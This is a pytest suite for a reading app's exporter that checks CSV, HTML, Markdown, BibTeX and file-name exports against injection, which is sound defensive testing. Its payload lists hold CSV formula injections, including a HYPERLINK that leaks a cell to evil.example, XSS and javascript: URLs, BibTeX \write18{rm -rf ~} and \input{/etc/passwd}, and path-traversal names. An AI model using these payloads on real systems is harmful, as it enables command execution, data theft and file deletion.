"""Hostile exports: what a document or a reader's note holds never runs where an export is opened.

One guard per test, each over the whole file a user gets: formulas in a CSV
(and formulas behind leading whitespace), scripts and tags in the HTML page,
structure smuggled into a Markdown note's quotes and front matter, fields and
commands smuggled into a BibTeX entry, and file names made from titles that
would leave the export folder, name a Windows device, or clash with another.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import unicodedata
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from db.export import ExportItem, export
from db.export.names import STEM_BYTES, STEM_CHARS
from db.export.readwise_csv import HEADER
from db.exporting import export_to_path
from db.library import open_source
from db.locate import Location
from db.models import Document, Highlight, Metadata
from db.store import Store
from tui.cli import main

EXPORTED = "2026-11-28T12:00:00Z"


def document(doc_id: int = 3, **meta: Any) -> Document:
    return Document(
        id=doc_id,
        text_hash="text-hash",
        source_hash="source-hash",
        format="txt",
        path="/books/book.txt",
        metadata=Metadata(**meta),
        added="2026-11-01T09:00:00Z",
        opened=None,
    )


def highlight(number: int, quote: str, **fields: Any) -> Highlight:
    return Highlight(
        id=f"{number:08x}-0000-4000-8000-{number:012x}",
        document_id=3,
        start=number * 100,
        end=number * 100 + len(quote),
        quote=quote,
        prefix="",
        suffix="",
        text_hash="text-hash",
        created="2026-11-02T10:00:00Z",
        updated="2026-11-02T10:00:00Z",
        **fields,
    )


def run(fmt: str, doc: Document, highlights: list[Highlight], chapter: str = "") -> str:
    item = ExportItem(doc, highlights, lambda _: Location(paragraph=4, chapter=chapter))
    return "".join(export(fmt, [item], EXPORTED))


# --- CSV: formula injection ----------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\tplain after a tab",
    "\rplain after a return",
]
#: Whitespace a spreadsheet's import may trim before it reads a formula.
LEADING = ["", " ", "   ", "\u00a0", "\u3000", " \t ", "\n"]

#: A cell a spreadsheet would run: a formula start, also behind whitespace or NULs.
RUNS = re.compile(r"[\s\x00]*[=+\-@]|[\t\r]")


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("leading", LEADING, ids=repr)
@pytest.mark.parametrize("formula", FORMULAS)
def test_no_csv_cell_starts_a_formula_even_behind_whitespace(leading: str, formula: str) -> None:
    payload = leading + formula
    doc = document(title=payload, authors=[payload], url=payload)
    rows = csv_rows(run("csv", doc, [highlight(1, payload, note=payload)]))
    assert rows[0] == list(HEADER)
    cells = dict(zip(HEADER, rows[1], strict=True))
    for column in ("Highlight", "Title", "Author", "URL", "Note"):
        cell = cells[column]
        assert not RUNS.match(cell), (column, cell)
        # The text kept (title, author and note trimmed), with a leading "'" if it would run.
        kept = payload if column in ("Highlight", "URL") else payload.strip()
        assert cell == ("'" + kept if RUNS.match(kept) else kept), (column, cell)


@pytest.mark.parametrize("cell", ["a=1", "1-2", "e-mail me", "Plain words", "'quoted'", "", "."])
def test_a_csv_cell_that_runs_nothing_is_left_alone(cell: str) -> None:
    rows = csv_rows(run("csv", document(title="T"), [highlight(1, cell or "q", note=cell)]))
    assert rows[1][HEADER.index("Note")] == cell


# --- HTML: script and tag injection ----------------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><iframe srcdoc='<script>alert(1)</script>'>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<a href=javascript:alert(1)>x</a>",
    "&lt;script&gt; stays text",
]

URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "jav&#x09;ascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://ok.example/"><script>alert(1)</script>',
    "https://ok.example/' onmouseover='alert(1)",
]

ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "main", "header", "h1", "p", "dl", "dt",
    "dd", "a", "section", "blockquote", "div", "span", "ul", "li", "footer", "time",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "lang", "charset", "http-equiv", "content", "name", "dir", "class", "id", "href", "rel",
    "role", "aria-label",
}  # fmt: skip


class Page(HTMLParser):
    """Tags, attributes and text as a browser's tokenizer sees them, and what is raw text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def unknown_decl(self, data: str) -> None:
        self.comments.append(data)


def page_of(html: str) -> Page:
    page = Page()
    page.feed(html)
    page.close()
    return page


def assert_nothing_runs(html: str) -> Page:
    page = page_of(html)
    for tag, attrs in page.tags:
        assert tag in ALLOWED_TAGS, tag
        for name, value in attrs.items():
            assert name in ALLOWED_ATTRIBUTES, (tag, name, value)
            if name == "href":
                assert value is not None and re.match(r"https?://[^\s\"'<>]", value), value
            if name == "http-equiv":
                assert value == "Content-Security-Policy", value
    metas = [attrs for tag, attrs in page.tags if tag == "meta"]
    policy = [m["content"] for m in metas if m.get("http-equiv") == "Content-Security-Policy"]
    assert policy and "default-src 'none'" in (policy[0] or "")
    assert [tag for tag, _ in page.tags].count("style") == 1
    assert "<script" not in html.lower()
    assert not page.comments
    return page


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_shows_markup_as_text_wherever_it_comes_from(attack: str) -> None:
    doc = document(
        title=attack,
        authors=[attack, "Jane Doe"],
        published=attack,
        publisher=attack,
        container=attack,
        description=attack,
        url=attack,
        language=attack,
    )
    hostile = highlight(1, attack, note=attack, tags=["safe"], status="moved", color=1)
    html = run("html", doc, [hostile], chapter=attack)
    page = assert_nothing_runs(html)
    text = "".join(page.text)
    # Shown as written, in the title, the heading, the quote and the note.
    assert text.count(attack) >= 6
    assert "<html>" in html  # a language that is no language tag is left out


@pytest.mark.parametrize("url", URLS, ids=repr)
def test_html_links_only_to_the_web_and_keeps_the_attribute_closed(url: str) -> None:
    html = run("html", document(title="T", url=url), [highlight(1, "q")])
    page = assert_nothing_runs(html)
    links = [attrs["href"] for tag, attrs in page.tags if tag == "a"]
    if url.startswith("https://") and len(url.split()) == 1:
        assert links == [url]  # linked, and the whole URL is the link: no way out of href
    else:
        assert links == []  # not the web, or with whitespace a browser would drop
    # Unlinked or not, the URL is shown as text.
    assert " ".join(url.split()) in " ".join("".join(page.text).split())


def test_html_class_names_and_ids_come_from_margin_alone() -> None:
    odd = replace(highlight(1, "q"), id='x" onclick="alert(1)', color=7)
    html = run("html", document(title="T"), [odd])
    page = assert_nothing_runs(html)
    sections = [attrs for tag, attrs in page.tags if tag == "section"]
    assert len(sections) == 1 and re.fullmatch(r"hl-[0-9a-f]{8}", sections[0]["id"] or "")
    classes = {attrs.get("class") for _, attrs in page.tags if attrs.get("class")}
    assert all(re.fullmatch(r"[a-z0-9 -]+", c or "") for c in classes), classes


# --- Markdown: structure injection --------------------------------------------------------

MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])

INJECTIONS = [
    "ordinary words\n# Heading\nmore words",
    "---\ntitle: evil\n---",
    "words\n---\nafter a rule or a setext heading",
    "words\n===",
    "[link](javascript:alert(1)) and <https://evil.example> and ![img](x.png)",
    "<script>alert(1)</script>\n<div onclick=x>block</div>",
    "```\nan open fence",
    "~~~python\nanother",
    "    indented code?",
    "| a | b |\n|---|---|\n| c | d |",
    "|\n:-",
    "a | b\n:-: | -:",
    "> quote\n>> deeper",
    "- item\n* item\n+ item\n1. item\n2) item",
    "[^1] footnote and [^1]: defined",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "==mark== %%comment%% $math$ $$block$$ ^block #tag [[wiki]]",
    "trailing spaces make a break  \nline",
    "back\\slash\\",
    "&amp; &#x3C;script&#x3E; entities",
]

#: Token types a quote must never become in the exported note.
STRUCTURE = {
    "heading_open", "table_open", "link_open", "image", "html_block", "html_inline", "fence",
    "code_block", "code_inline", "bullet_list_open", "ordered_list_open", "hr", "em_open",
    "strong_open", "s_open", "hardbreak",
}  # fmt: skip


def front_matter(text: str) -> tuple[dict[str, Any], str]:
    """The front matter (each value read as JSON, which the export keeps to) and the body."""
    assert text.startswith("---\n")
    end = text.index("\n---\n")
    data: dict[str, Any] = {}
    key = ""
    for line in text[4:end].split("\n"):
        if line.startswith("  - "):
            data[key].append(json.loads(line[4:]))
        elif line.endswith(":"):
            key = line[:-1]
            data[key] = []
        else:
            key, sep, value = line.partition(": ")
            assert sep and re.fullmatch(r"[a-z]+", key), line
            data[key] = json.loads(value)
    return data, text[end + 5 :]


def quotes_in(body: str) -> list[str]:
    """The text of each top-level block quote of a Markdown body, as a renderer reads it."""
    tokens = MD.parse(body)
    found: list[str] = []
    depth = 0
    current: list[str] = []
    for token in tokens:
        assert token.type not in STRUCTURE, token.type
        if token.type == "blockquote_open":
            depth += 1
            continue
        if token.type == "blockquote_close":
            depth -= 1
            if depth == 0:
                found.append("\n\n".join(current))
                current = []
            continue
        if depth and token.type == "inline":
            pieces = []
            for child in token.children or []:
                assert child.type not in STRUCTURE, child.type
                pieces.append("\n" if child.type == "softbreak" else child.content)
            current.append("".join(pieces))
    return found


@pytest.mark.parametrize("injection", INJECTIONS)
def test_a_markdown_quote_stays_the_words_it_quotes(injection: str) -> None:
    quotes = [highlight(1, injection), highlight(2, "after it")]
    text = run("md", document(title="T"), quotes, chapter=injection)
    data, body = front_matter(text)
    assert data["highlights"] == 2
    assert quotes_in(body) == [injection, "after it"]
    # Each quote keeps its block id on a line of its own, as Obsidian needs.
    assert re.findall(r"^\^hl-[0-9a-f]{8}$", body, re.MULTILINE) == [
        "^hl-00000001",
        "^hl-00000002",
    ]


@pytest.mark.parametrize("injection", INJECTIONS)
def test_markdown_front_matter_holds_any_title_as_one_value(injection: str) -> None:
    doc = document(
        title=injection,
        authors=[injection],
        url=injection,
        published=injection,
        tags=["ok", injection],
    )
    doc = replace(doc, path=injection)
    data, body = front_matter(run("md", doc, [highlight(1, "words")]))
    assert set(data) == {
        "title", "author", "url", "source", "published", "tags", "highlights", "exported",
    }  # fmt: skip
    # Title and author are trimmed, as everywhere; nothing else changes.
    assert (data["title"], data["author"]) == (injection.strip(), injection.strip())
    assert data["url"] == injection
    assert (data["source"], data["published"]) == (injection, injection)
    assert quotes_in(body) == ["words"]


@pytest.mark.parametrize(
    "note",
    [
        "```\nleft open",
        "~~~\nleft open",
        "<div>\nleft open",
        "<!-- left open",
        "<script>\nleft open",
        "%% an Obsidian comment left open",
        "$$ math left open",
        "````\n```\nnested",
        "---\ntitle: evil\n---",
        "# A heading of my own\n\n> and a quote",
    ],
)
def test_a_note_left_open_cannot_swallow_the_next_highlight(note: str) -> None:
    text = run("md", document(title="T"), [highlight(1, "one", note=note), highlight(2, "two")])
    data, body = front_matter(text)
    assert (data["title"], data["highlights"]) == ("T", 2)
    tokens = MD.parse(body)
    paragraphs = [
        tokens[i + 1].content
        for i, token in enumerate(tokens)
        if token.type == "paragraph_open" and token.level == 0
    ]
    # The second highlight's block id is still a paragraph of its own, after the note.
    assert "^hl-00000002" in paragraphs
    assert text.count("> two") == 1


# --- BibTeX: field and command injection ----------------------------------------------------

BIB_ATTACKS = [
    "}, note = {injected",
    "} @comment{",
    "@misc{evil, title={pwned}}",
    "{unbalanced",
    "unbalanced}",
    "}}}}",
    "\\input{/etc/passwd}",
    "\\immediate\\write18{rm -rf ~}",
    "100% & $5 # _x_ ^y ~z",
    'quote " and comma, and = sign',
    "a and b",
    "\x1b[31mred\x1b[0m",
]


def bib_fields(entry: str) -> dict[str, str]:
    """The fields of one BibTeX entry, split as BibTeX does: by brace depth (``\\{`` counts)."""
    match = re.match(r"@(\w+)\{([A-Za-z0-9-]+),\n", entry)
    assert match, entry[:40]
    fields: dict[str, str] = {}
    at = match.end()
    while True:
        line = re.compile(r"  ([a-z]+) = ").match(entry, at)
        if line is None:
            break
        at = line.end()
        if entry[at] != "{":  # a month macro
            end = entry.index(",\n", at)
            fields[line.group(1)] = entry[at:end]
            at = end + 2
            continue
        depth = 0
        for index in range(at, len(entry)):
            depth += {"{": 1, "}": -1}.get(entry[index], 0)
            if depth == 0:
                break
        else:
            raise AssertionError("a field never closes")
        assert entry[index + 1 : index + 3] == ",\n", entry[index - 20 : index + 3]
        fields[line.group(1)] = entry[at : index + 1]
        at = index + 3
    assert entry[at:] == "}\n", entry[at:]
    return fields


@pytest.mark.parametrize("attack", BIB_ATTACKS)
def test_bibtex_fields_stay_closed_and_run_no_command(attack: str) -> None:
    doc = document(
        title=attack,
        authors=[attack, "Doe, Jane"],
        publisher=attack,
        container=attack,
        url=f"https://example.org/{attack}",
        published="2024-06-03",
        kind="article",
        identifiers={"doi": f"10.1000/{attack}"},
    )
    text = run("bibtex", doc, [])
    comment, entry = text.split("\n\n", 1)
    assert comment.startswith("% ") and "\n" not in comment
    # One entry; "@" inside braces is text to BibTeX, never a second entry.
    assert entry.count("\n@") == 0 and entry.startswith("@article{")
    fields = bib_fields(entry)
    assert set(fields) == {"author", "title", "journal", "publisher", "year", "month", "doi", "url"}
    # Only margin's own escapes: no command from the text reaches LaTeX.
    commands = set(re.findall(r"\\[A-Za-z]+", entry))
    assert commands <= {"\\textbackslash", "\\vphantom", "\\textasciicircum", "\\textasciitilde"}
    assert "\x1b" not in entry
    # The URL is percent-encoded where it would break the field, not LaTeX-escaped.
    assert not re.search(r"[{}\\\s]", fields["url"][1:-1])


def test_a_bibtex_url_is_percent_encoded_as_utf_8() -> None:
    doc = document(title="T", url="https://example.org/a b{d}\\e\x1b\x9bf\x7fé")
    fields = bib_fields(run("bibtex", doc, []).split("\n\n", 1)[1])
    assert fields["url"] == "{https://example.org/a%20b%7Bd%7D%5Ce%1B%C2%9Bf%7Fé}"


# --- CSL-JSON: what JSON allows raw but a terminal runs -------------------------------------


def test_csl_json_escapes_controls_a_terminal_would_act_on() -> None:
    title = "red\x1b[31m CSI\x9b2J DEL\x7f end"
    text = run("csl-json", document(title=title, authors=["Doe, Jane"]), [])
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]", text)
    (record,) = json.loads(text)
    assert record["title"] == title  # escaped, not changed


# --- file names: traversal, devices, clashes ------------------------------------------------

TITLES = [
    "../x",
    "../../../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\System32\\evil",
    "\\\\server\\share\\x",
    "foo/../../bar",
    "CON",
    "con.md",
    "nul.txt",
    "COM1",
    "lpt9.tar.gz",
    "AUX .x",
    "a\x00b",
    "name:stream",
    "x" * 1000,
    "x" * 999 + "y",
    "",
    "   ",
    ".",
    "..",
    "...",
    ".bashrc",
    "trailing dot.",
    "trailing space ",
    "Notes",
    "NOTES",
    "notes",
    "Café",
    "Cafe\u0301",
    "\u202egpj.exe",
    "tab\there",
    "~",
    "-rf",
]

#: Names Windows reserves for devices, whatever extension follows.
DEVICES = {"con", "prn", "aux", "nul", "conin$", "conout$"} | {
    f"{port}{digit}" for port in ("com", "lpt") for digit in "123456789¹²³"
}


def valid_everywhere(name: str) -> bool:
    """A name Linux, macOS and Windows all take as one plain file in the folder."""
    stem = name.partition(".")[0].rstrip(" ")
    return (
        name not in (".", "..")
        and not name.startswith((".", " "))
        and not name.endswith((".", " "))
        and not any(char in '<>:"/\\|?*' or ord(char) < 32 for char in name)
        and stem.casefold() not in DEVICES
        and len(name.encode("utf-8")) <= 255
        and unicodedata.is_normalized("NFC", name)
    )


def library_of(store: Store, titles: list[str]) -> list[Document]:
    documents = []
    for number, title in enumerate(titles):
        document, _ = open_source(store, f"Text number {number}.".encode(), path=None)
        store.update_metadata(document.id, Metadata(title=title))
        documents.append(store.get_document(document.id))
    return documents


def tree(root: Path) -> set[str]:
    return {str(path.relative_to(root)) for path in root.rglob("*")}


@pytest.mark.parametrize("fmt", ["md", "html"])
def test_exporting_a_folder_writes_only_safe_unique_names_inside_it(
    fmt: str, store: Store, tmp_path: Path
) -> None:
    documents = library_of(store, TITLES)
    folder = tmp_path / "vault" / "margin"
    before = tree(tmp_path)
    written = export_to_path(store, fmt, documents, folder)

    names = [path.name for path in written]
    assert len(names) == len(TITLES)
    # Inside the folder, and nothing anywhere else.
    assert all(path.parent == folder for path in written)
    assert sorted(os.listdir(folder)) == sorted(names)
    assert tree(tmp_path) - before == {"vault", "vault/margin"} | {
        f"vault/margin/{name}" for name in names
    }
    for name in names:
        assert valid_everywhere(name), repr(name)
        assert name.endswith(f".{fmt}")
        stem = name.removesuffix(f".{fmt}")
        assert len(stem) <= STEM_CHARS + len(" (99)")
        assert len(stem.encode("utf-8")) <= STEM_BYTES + len(" (99)")
    # Unique where a file system folds case or normalises Unicode (macOS, Windows).
    folded = {unicodedata.normalize("NFC", name.casefold()) for name in names}
    assert len(folded) == len(names)
    # Stable: again, in another order, every document gets the same name.
    again = export_to_path(store, fmt, list(reversed(documents)), folder)
    assert sorted(path.name for path in again) == sorted(names)
    # Each file is its own document's (the names were given in order of id).
    if fmt == "md":
        ordered = sorted(documents, key=lambda d: d.id)
        for document, path in zip(ordered, written, strict=True):
            data, _ = front_matter(path.read_text(encoding="utf-8"))
            assert data["title"] == document.metadata.title.strip()


def test_the_command_line_export_of_a_library_stays_in_its_folder(
    store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    library_of(store, ["../../escaped", "/etc/passwd", "CON", ".."])
    folder = tmp_path / "out"
    assert main(["export", "--all", "-f", "md", "-o", str(folder), "--db", str(store.path)]) == 0
    assert capsys.readouterr().err == f"wrote 4 files to {folder}\n"
    names = sorted(os.listdir(folder))
    assert names == ["CON_.md", "document-4.md", "escaped.md", "etc passwd.md"]
    assert not (tmp_path / "escaped.md").exists() and not (tmp_path.parent / "escaped.md").exists()
